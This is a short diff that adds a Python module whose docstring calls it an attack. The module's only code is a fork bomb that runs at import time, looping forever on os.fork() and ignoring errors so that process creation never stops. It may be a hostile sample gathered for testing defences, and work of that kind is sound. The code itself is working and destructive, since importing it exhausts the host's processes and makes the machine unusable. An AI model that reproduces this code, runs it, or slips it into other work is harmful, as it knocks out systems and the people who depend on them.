@@ -1,0 +1,8 @@
+"""Attack: a fork bomb at import time: every process forks forever."""
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
